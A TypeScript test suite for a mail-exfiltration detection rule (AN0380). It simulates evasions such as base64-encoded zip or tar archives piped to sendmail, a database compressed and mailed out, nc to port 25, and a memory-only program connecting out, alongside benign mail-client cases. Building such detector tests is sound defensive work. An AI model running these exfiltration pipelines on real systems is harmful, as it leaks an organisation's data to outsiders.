import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  scanLog,
  storyOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Ways around AN0380 of which there is no recording, seen in full: each must alert. */
const OUT = '203.0.113.66';
const TO = 'e@mail.example.net';

function host(): HostLog {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.deliver();
  log.wait(MINUTE);
  return log;
}

const EVASIONS: Readonly<Record<string, (log: HostLog) => void>> = {
  'a copy of the mailer behind an encoder': log => {
    const job = log.cron('dev', 'x');
    const stages = job.pipeline('/usr/bin/zip - src', '/usr/bin/base64', `/home/dev/.l/fc -s a ${TO}`);
    stages[2]?.run(`/usr/sbin/sendmail -i ${TO}`);
    log.submitted('dev', TO, 400_000);
  },
  "a script of a user's unit, straight to a server": log => {
    const manager = log.service('/usr/lib/systemd/systemd --user', 'dev');
    manager.run('/usr/bin/python3 /home/dev/.l/a.py').read('/home/dev/.l/a.py').connect(OUT, 587);
  },
  'a program in memory that left its login': log => {
    const orphan = log.shell('dev').run('/usr/bin/setsid -f x').fork().orphan();
    orphan.exec(['/proc/self/fd/5'], { exe: '/memfd:k (deleted)' }).connect(OUT, 25);
  },
  'a mailer in a terminal of which no record tells who made it': log => {
    const server = log.shell('dev').run('/usr/bin/tmux new -d').fork().orphan();
    server.who = { ...server.who, tty: 'pts9' };
    server.run(['/bin/sh', '-c', 'x']).run(`/bin/busybox sendmail -S x ${TO}`).connect(OUT, 25);
  },
  'a program in a container, as root there': log => {
    log.service('/usr/bin/containerd-shim-runc-v2').run('/app/bin/agent').connect(OUT, 25);
  },
  'a program that bears the name of a mail client': log => {
    log.cron('dev', 'x').run('/home/dev/.l/thunderbird').connect(OUT, 587);
  },
  'a terminal made by script(1)': log => {
    const job = log.cron('dev', 's');
    const script = job.run(['/usr/bin/script', '-qc', 'x', '/dev/null']);
    const inner = script.run(['/bin/sh', '-c', 'x'], { who: { ...script.who, tty: 'pts7' } });
    inner.run(`/usr/bin/mutt -s r -a /home/dev/.l/q -- ${TO}`).read('/home/dev/.l/q');
    log.submitted('dev', TO, 300_000);
  },
  'many small messages to recipients that rotate': log => {
    for (let i = 0; i < 60; i++) {
      log.cron('dev', 's').run(`/usr/bin/mail -s n r${i}@mail.example.net`);
      log.submitted('dev', `r${i}@mail.example.net`, 9000);
      log.wait(20 * MINUTE);
    }
  },
  'a script that was started at a terminal and sleeps for hours': log => {
    const script = log.shell('dev').run('/bin/sh ./n.sh').read('/home/dev/n.sh');
    log.wait(6 * HOUR);
    const [xz, mail] = script.pipeline('/usr/bin/xz -c /home/dev/db', `/usr/bin/mail -A - ${TO}`);
    xz?.read('/home/dev/db');
    mail?.run('/usr/sbin/sendmail -i');
    log.submitted('dev', TO, 2_500_000);
  },
};

for (const [says, act] of Object.entries(EVASIONS))
  test(`mail is sent by ${says}`, async () => {
    const log = host();
    act(log);
    firesAt(await scanLog(log), 'AN0380', 'medium');
  });

test("a person's client that is unpacked in the home fetches mail and sends some: nothing above informational", async () => {
  const log = host();
  const client = log.desktop('clerk').run('/home/clerk/thunderbird/thunderbird').connect('198.51.100.7', 993);
  client.connect('198.51.100.7', 587);
  atMostAt(await scanLog(log), 'informational');
});

test('a second terminal of a login over one connection is a terminal of the person', async () => {
  const log = host();
  const first = log.shell('dev');
  const second = first.fork({ ...first.who, tty: 'pts1' });
  second.ppid = first.ppid;
  second.run(['/bin/bash'], { argv0: '-bash' });
  second.run(`/usr/bin/mail -s hello ${TO}`).run('/usr/sbin/sendmail -i');
  log.submitted('dev', TO, 900);
  atMostAt(await scanLog(log), 'informational');
});

test("a job whose script somebody logged in put into a system place lately is nobody's package", async () => {
  const factors = async (byHand: boolean, report = '/usr/local/sbin/report') => {
    const log = new HostLog();
    log.deliver();
    log
      .shell('ops')
      .run('/usr/bin/vim notes')
      .write(byHand ? report : '/home/ops/notes');
    log.wait(HOUR);
    const script = log.cron('root', report).run(report, { by: '/bin/sh' });
    script.pipeline('/usr/bin/tar cz /srv/plans', '/usr/bin/base64', `/usr/sbin/sendmail ${TO}`);
    log.submitted('root', TO, 900_000);
    return factorsOf(storyOf(await scanLog(log), 'AN0380'));
  };
  const [own, packaged, ofSite] = [
    "job of no package: a command line or a user's script",
    'job of the system or a package',
    'program of the site, which sends data out',
  ];
  const whose = async (...of: Parameters<typeof factors>) =>
    (await factors(...of)).filter(each => each === own || each === packaged || each === ofSite);
  assert.deepEqual(await whose(true), [own]);
  assert.deepEqual(await whose(false, '/usr/sbin/report'), [packaged]);
  assert.deepEqual(await whose(false), [ofSite], 'what a site put in place vouches for less');
});

/** Factors of what a job sent; none where nothing is told. */
async function factorsAfter(act: (log: HostLog) => void): Promise<readonly string[]> {
  const log = host();
  act(log);
  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
  return found.flatMap(factorsOf);
}

test('a script that belongs to its user is no part of the system, under whatever name a container shows it', async () => {
  const shown =
    (script: string, owner: number, by: string, isReplaced = false) =>
    (log: HostLog) => {
      const tool = log.cron('dev', 'x').run(by);
      const python = isReplaced ? tool.exec(`/usr/bin/python3 ${script}`) : tool.run(`/usr/bin/python3 ${script}`);
      log.records.node(script, owner).uid = owner;
      python.read(script).connect(OUT, 25);
    };
  const OWN = "job of no package: a command line or a user's script";
  assert.ok((await factorsAfter(shown('/app/run.py', 1002, '/usr/bin/bwrap'))).includes(OWN));
  assert.ok((await factorsAfter(shown('/app/run.py', 1002, '/usr/bin/unshare -r', true))).includes(OWN));
  assert.ok(!(await factorsAfter(shown('/app/run.py', 0, '/usr/bin/bwrap'))).includes(OWN), 'of the host');
  assert.ok(
    !(await factorsAfter(shown('/opt/ci/run.py', 1002, '/usr/bin/env'))).includes(OWN),
    'a folder that root gave',
  );
});

test('what at(1) feeds to a shell is a line of its user, what is typed is told by the terminal', async () => {
  const OWN = "job of no package: a command line or a user's script";
  assert.ok(
    (await factorsAfter(log => void log.at('dev').run('/usr/bin/nc 203.0.113.66 25').connect(OUT, 25))).includes(OWN),
  );
  assert.ok(
    !(await factorsAfter(log => void log.shell('dev').run('/usr/bin/nc 203.0.113.66 25').connect(OUT, 25))).includes(
      OWN,
    ),
  );
});

test('what a script hands to sendmail is mail of the store that it read', async () => {
  const job = (script: string) => (log: HostLog) => {
    const message = log.deliver({ to: 'dev' });
    const perl = log.cron('dev', 'x').run(`/usr/bin/perl ${script}`).read(message.path);
    log.wait(5000);
    perl.run(`/usr/sbin/sendmail ${TO}`);
    log.submitted('dev', TO, 4000);
  };
  assert.ok((await factorsAfter(job('/home/dev/.c.pl'))).includes('data of a mail store'));
  assert.ok(!(await factorsAfter(job('/usr/bin/digest'))).includes('data of a mail store'), 'a program of a package');
});

test('an attachment that somebody saved is not the mail store', async () => {
  const factors = await factorsAfter(log => {
    const message = log.deliver({ to: 'dev' });
    log.desktop('dev').run('/usr/lib/thunderbird/thunderbird').read(message.path).write('/home/dev/Documents/plan');
    const perl = log.cron('dev', 'x').run('/usr/bin/perl /home/dev/.c.pl').read('/home/dev/Documents/plan');
    perl.run(`/usr/sbin/sendmail ${TO}`);
    log.submitted('dev', TO, 4000);
  });
  assert.ok(!factors.includes('data of a mail store'));
});

test('a mailer that is told its server speaks SMTP itself; one with the settings of the host does not', async () => {
  const OWN = 'speaks SMTP itself, past the governed relay';
  const sends = (line: string) => (log: HostLog) => void log.cron('dev', 'x').run(line).connect(OUT, 587);
  for (const words of [
    '-C /home/dev/.m',
    '--file=/home/dev/.m',
    '--host mx.example.net',
    '--server=mx.example.net',
    '-S mta=smtps://mx.example.net',
  ])
    assert.ok((await factorsAfter(sends(`/usr/bin/msmtp ${words} ${TO}`))).includes(OWN), words);
  for (const words of ['-a work', '--hosts x', '-t'])
    assert.ok(!(await factorsAfter(sends(`/usr/bin/msmtp ${words} ${TO}`))).includes(OWN), words);
});
